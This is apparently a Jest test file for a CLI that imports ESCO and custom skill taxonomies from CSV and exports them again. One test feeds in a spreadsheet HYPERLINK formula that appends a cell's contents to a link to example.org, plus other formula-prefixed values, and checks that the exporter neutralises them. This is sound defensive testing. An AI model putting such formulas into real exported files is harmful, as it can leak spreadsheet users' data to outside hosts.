import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { createEscoFolder, smallDownload, type EscoFolder } from '../support/data/esco-folder.js';
import { runCommand } from '../support/commands/run-command.js';
import { settingsFor } from '../support/commands/run-process.js';
import { createTestDatabase, type TestDatabase } from '../support/database/test-database.js';

const ATTRIBUTION = 'This service uses the ESCO classification of the European Commission.';

let database: TestDatabase;
let folder: EscoFolder;
let organisationId: string;

beforeAll(async () => {
  database = await createTestDatabase();
  folder = await createEscoFolder(smallDownload());
  ({ id: organisationId } = await database.createOrganisation('Ours'));
});

afterAll(async () => {
  await database?.drop();
  await folder?.remove();
});

const run = (...parameters: string[]) => runCommand(settingsFor(database.url), 'taxonomy', ...parameters);

async function importCsv(name: string, text: string, ...options: string[]) {
  await folder.write({ [name]: text });
  return run('import', 'csv', organisationId, join(folder.path, name), ...options);
}

describe('taxonomy import esco', () => {
  it('stores a download, does nothing the next time, and shows what is installed', async () => {
    const first = await run('import', 'esco', folder.path, '--release', '1.2.0', '--json');
    expect(first).toMatchObject({
      code: 0,
      json: {
        unchanged: false,
        version: '1.2.0',
        skills: { total: 6, added: 6 },
        occupations: { total: 2 },
        groups: 2,
        relationsLeftOut: 1,
        attribution: ATTRIBUTION,
      },
    });
    const again = await run('import', 'esco', folder.path, '--release', '1.2.0');
    expect(again.code).toBe(0);
    expect(again.stdout).toContain('ESCO 1.2.0 is installed already with these files. Nothing was changed.');
    expect(again.stdout).toContain(ATTRIBUTION);
    const shown = await run('show');
    expect(shown.stdout).toMatch(/ESCO +1\.2\.0 +\d{4}-\d\d-\d\d +[0-9a-f]{12} +6 /);
    expect(shown.stdout).toContain(ATTRIBUTION);
    expect((await run('show', '--json')).json.sources).toMatchObject([
      { source: 'STARTER', attribution: null },
      { source: 'ESCO', version: '1.2.0', skills: 6, occupations: 2, groups: 2, attribution: ATTRIBUTION },
    ]);
  });

  it('says which file, line and column is wrong, and stores nothing', async () => {
    const broken = await createEscoFolder({
      ...smallDownload(),
      'skills_en.csv': [
        ['conceptUri', 'preferredLabel', 'altLabels'],
        ['nonsense', 'x', ''],
      ],
    });
    try {
      const { code, stderr, stdout } = await run('import', 'esco', broken.path);
      expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
      expect(stderr).toContain('nothing was stored: 1 problem');
      expect(stderr).toContain(
        `${join(broken.path, 'skills_en.csv')}, line 2, conceptUri: "nonsense" is not the URI of a concept`,
      );
      await broken.remove('occupations_en.csv');
      expect((await run('import', 'esco', broken.path, '--json')).json).toMatchObject({
        problemCount: 1,
        problems: [{ problem: 'it is missing, while other files of its language are there' }],
      });
    } finally {
      await broken.remove();
    }
  });
});

describe('taxonomy import csv', () => {
  const CSV = [
    'sleutel;soort;naam_en;naam_nl;omschrijving_nl;synoniemen_en;synoniemen_nl;verwant',
    'crm;Kennis;Our CRM;Onze CRM;"Het systeem; van ons";Customer desk|CD tool;Klantenbalie;desk',
    'desk;functioneel;;Balie draaien;;;;',
    ';;;;;;;',
  ].join('\r\n');

  it("makes an organisation's own skills, and updates them by key with the same ids", async () => {
    expect(await importCsv('own.csv', `\uFEFF${CSV}`, '--json')).toMatchObject({
      code: 0,
      json: { created: 2, updated: 0 },
    });
    const { client } = database.runtime.database;
    const before = await client.skill.findMany({ where: { ownerId: organisationId }, orderBy: { sourceKey: 'asc' } });
    expect(before).toMatchObject([
      { sourceKey: 'crm', type: 'KNOWLEDGE' },
      { sourceKey: 'desk', type: 'FUNCTIONAL' },
    ]);
    const changed = await importCsv(
      'own2.csv',
      'key,type,name_en,name_nl\ncrm,transversal,Our new CRM,\nnew,knowledge,Something new,\n',
    );
    expect(changed.stdout).toBe('1 skills made, 1 updated.\n');
    const after = await client.skill.findMany({
      where: { ownerId: organisationId },
      orderBy: { sourceKey: 'asc' },
      include: { translations: true, synonyms: true, relatedTo: true },
    });
    expect(after.map(({ id, sourceKey, type }) => [id, sourceKey, type]).slice(0, 2)).toEqual([
      [before[0]?.id, 'crm', 'TRANSVERSAL'],
      [before[1]?.id, 'desk', 'FUNCTIONAL'],
    ]);
    expect(after[0]).toMatchObject({
      translations: [{ language: 'en', name: 'Our new CRM', description: '' }],
      synonyms: [],
      relatedTo: [],
    });
    expect(await client.taxonomyVersion.findUnique({ where: { ownerId: organisationId } })).toMatchObject({
      version: 2,
    });
  });

  it('says every line and column that is wrong, and stores nothing', async () => {
    const before = await database.runtime.database.client.skill.count({ where: { ownerId: organisationId } });
    const { code, json } = await importCsv(
      'wrong.csv',
      [
        'key,type,name_en,name_nl,related',
        'a,sport,A,,',
        'b,knowledge,,,',
        ',knowledge,C,,',
        'd,knowledge,A,,',
        'a,knowledge,E,,',
      ].join('\n'),
      '--json',
    );
    expect(code).toBe(1);
    expect(json.problems.map(({ line, column }: { line: number; column: string }) => [line, column])).toEqual([
      [2, 'type'],
      [3, 'name_en'],
      [4, 'key'],
      [5, 'name_en'],
      [6, 'key'],
    ]);
    expect(
      (await importCsv('unrelated.csv', 'key,type,name_en,related\nx,knowledge,X,nobody\n', '--json')).json.problems,
    ).toMatchObject([{ line: 2, column: 'related' }]);
    expect(
      (await importCsv('columns.csv', 'key,colour\nx,red\n', '--json')).json.problems.map(
        ({ column }: { column: string }) => column,
      ),
    ).toEqual(['colour', 'type', 'name_en']);
    expect(await database.runtime.database.client.skill.count({ where: { ownerId: organisationId } })).toBe(before);
  });

  it('is the other way round with export: what was written is read again as it was', async () => {
    await importCsv('own.csv', CSV);
    const file = join(folder.path, 'export.csv');
    expect((await run('export', organisationId, file, '--json')).json).toEqual({ file, skills: 3 });
    const text = await readFile(file, 'utf8');
    expect(text).toContain(
      'crm,knowledge,Our CRM,Onze CRM,,"Het systeem; van ons",CD tool|Customer desk,Klantenbalie,desk\r\n',
    );
    const { id } = await database.createOrganisation('Copy');
    expect((await runCommand(settingsFor(database.url), 'taxonomy', 'import', 'csv', id, file, '--json')).json).toEqual(
      { created: 3, updated: 0 },
    );
    const copy = join(folder.path, 'copy.csv');
    await run('export', id, copy);
    expect(await readFile(copy, 'utf8')).toBe(text);
    expect((await run('export', id, copy)).stderr).toContain('cannot be written');
  });

  it('writes no cell that a spreadsheet takes for a formula, and reads each again as it was', async () => {
    const { id } = await database.createOrganisation('Formulas');
    const formula = '=HYPERLINK("http://example.org/?"&A1,"look")';
    const quoted = `"${formula.replaceAll('"', '""')}"`;
    const given = join(folder.path, 'formulas.csv');
    const rows = [
      `-1,knowledge,${quoted},@SUM(1),+31 20,-,=1+1|@b,-c,@2`,
      `@2,knowledge,''=kept,'s Avonds,-x,,,,`,
      `＋3,knowledge,＝1,,,,,,`,
    ];
    await writeFile(
      given,
      ['key,type,name_en,name_nl,description_en,description_nl,synonyms_en,synonyms_nl,related', ...rows].join('\n'),
    );
    const imported = async (organisation: string, file: string) =>
      (await runCommand(settingsFor(database.url), 'taxonomy', 'import', 'csv', organisation, file, '--json')).json;
    expect(await imported(id, given)).toEqual({ created: 3, updated: 0 });
    const namesOf = async (ownerId: string) => {
      const skills = await database.runtime.database.client.skill.findMany({
        where: { ownerId },
        orderBy: { sourceKey: 'asc' },
        include: { translations: { orderBy: { language: 'asc' } }, synonyms: { orderBy: { label: 'asc' } } },
      });
      return skills.map(({ sourceKey, translations, synonyms }) => [
        sourceKey,
        ...translations.flatMap(({ name, description }) => [name, description]),
        ...synonyms.map(({ label }) => label),
      ]);
    };
    const stored = await namesOf(id);
    expect(stored).toEqual([
      ['-1', formula, '+31 20', '@SUM(1)', '-', '-c', '=1+1', '@b'],
      ['@2', "'=kept", '-x', "'s Avonds", ''],
      ['＋3', '＝1', ''],
    ]);

    const file = join(folder.path, 'formulas-exported.csv');
    await runCommand(settingsFor(database.url), 'taxonomy', 'export', id, file);
    const cells = parse(await readFile(file, 'utf8')) as string[][];
    expect(cells.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(cells.flat()).toContain("'s Avonds");
    const { id: copy } = await database.createOrganisation('Copied formulas');
    expect(await imported(copy, file)).toEqual({ created: 3, updated: 0 });
    expect(await namesOf(copy)).toEqual(stored);
  });
});
